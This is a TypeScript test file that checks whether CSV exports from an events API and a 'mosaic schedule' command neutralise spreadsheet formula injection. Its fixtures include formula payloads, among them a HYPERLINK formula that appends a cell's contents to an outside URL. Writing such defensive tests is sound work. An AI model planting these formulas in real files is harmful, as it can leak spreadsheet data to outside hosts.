import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EventDetail } from '../../src/contract/events.ts';
import { testBackends } from '../support/backends.ts';
import { demoEvent, listen, startApi, type ApiHarness } from '../support/api.ts';
import { addCard, TestLiveClient } from '../support/live-client.ts';

/**
 * Issue 10, hole 8: text a spreadsheet would run as a formula is written with a leading `'` by
 * every CSV export; HXL rows and numbers stay as they are.
 */
const FORMULAS = [
  '=HYPERLINK("https://example.test/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe.each(testBackends())('CSV exports on $name', (backend) => {
  let h: ApiHarness;
  let admin: string;
  let event: EventDetail;
  beforeAll(async () => {
    h = await startApi(backend);
    const port = await listen(h.app);
    admin = await h.adminCookie();
    event = await demoEvent(h.app, admin);
    const c = await TestLiveClient.connect(`ws://127.0.0.1:${port}/api/live/${event.id}`, {
      cookie: admin,
    });
    await c.hello();
    for (const text of FORMULAS)
      expect(await c.intent(addCard(randomUUID(), 'domesticWorkers', text))).toMatchObject({
        type: 'ack',
      });
    await c.close();
  });
  afterAll(async () => h?.close());

  it('a café sheet export neutralises formula text and keeps the HXL row and the numbers', async () => {
    const res = await h.app.inject({
      method: 'GET',
      url: `/api/events/${event.id}/sheets/domesticWorkers?format=csv`,
      headers: { cookie: admin },
    });
    expect(res.statusCode).toBe(200);
    const body = res.body.replace(/^\uFEFF/, '');
    expect(body.split('\n')[1]).toBe(
      '#meta+id,#sector+issue,#indicator+kind,#indicator+level,#description,#sector+form,#sector+labour,#affected+type,#indicator+ilo,#loc+table,#meta+round,#meta+version,#date+created',
    );
    const [header, , ...rows] = parse(body) as string[][];
    // The server stores text tidied (a leading tab or CR goes): compare with what it stored.
    const stored = (
      await h.app.inject({
        method: 'GET',
        url: `/api/events/${event.id}/sheets/domesticWorkers`,
        headers: { cookie: admin },
      })
    ).json<{ cards: { id: string; text: string }[] }>().cards;
    const risky = stored.filter((c) => /^[=+\-@]/.test(c.text));
    expect(risky.length).toBeGreaterThanOrEqual(4);
    for (const c of risky)
      expect(rows.find((r) => r[0] === c.id)![header!.indexOf('text')]).toBe(`'${c.text}`);
    // No cell of the file starts a formula.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const r of rows) expect(r[header!.indexOf('version')]).toMatch(/^\d+$/);
  });
});

describe('CSV from the mosaic command', () => {
  it('`mosaic schedule … --format csv` neutralises participant ids a spreadsheet would run', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mosaic-csv-'));
    const file = path.join(dir, 'people.csv');
    fs.writeFileSync(file, 'id\n"=HYPERLINK(""http://x"")"\n@bob\n-carol\n+dave\n');
    const { stdout } = await promisify(execFile)(
      process.execPath,
      [
        '--import',
        'tsx',
        'src/cli/main.ts',
        'schedule',
        'networking',
        '--participants',
        file,
        '--rounds',
        '2',
        '--time-limit',
        '2',
        '--format',
        'csv',
      ],
      { cwd: path.resolve(import.meta.dirname, '../..') },
    );
    fs.rmSync(dir, { recursive: true, force: true });
    const [header, ...rows] = parse(stdout) as string[][];
    expect(header).toEqual(['round', 'table', 'people']);
    expect(rows).toHaveLength(4);
    for (const r of rows) {
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@]/);
      expect(r[2]).toMatch(/^'[=@]/);
    }
  }, 30_000);
});
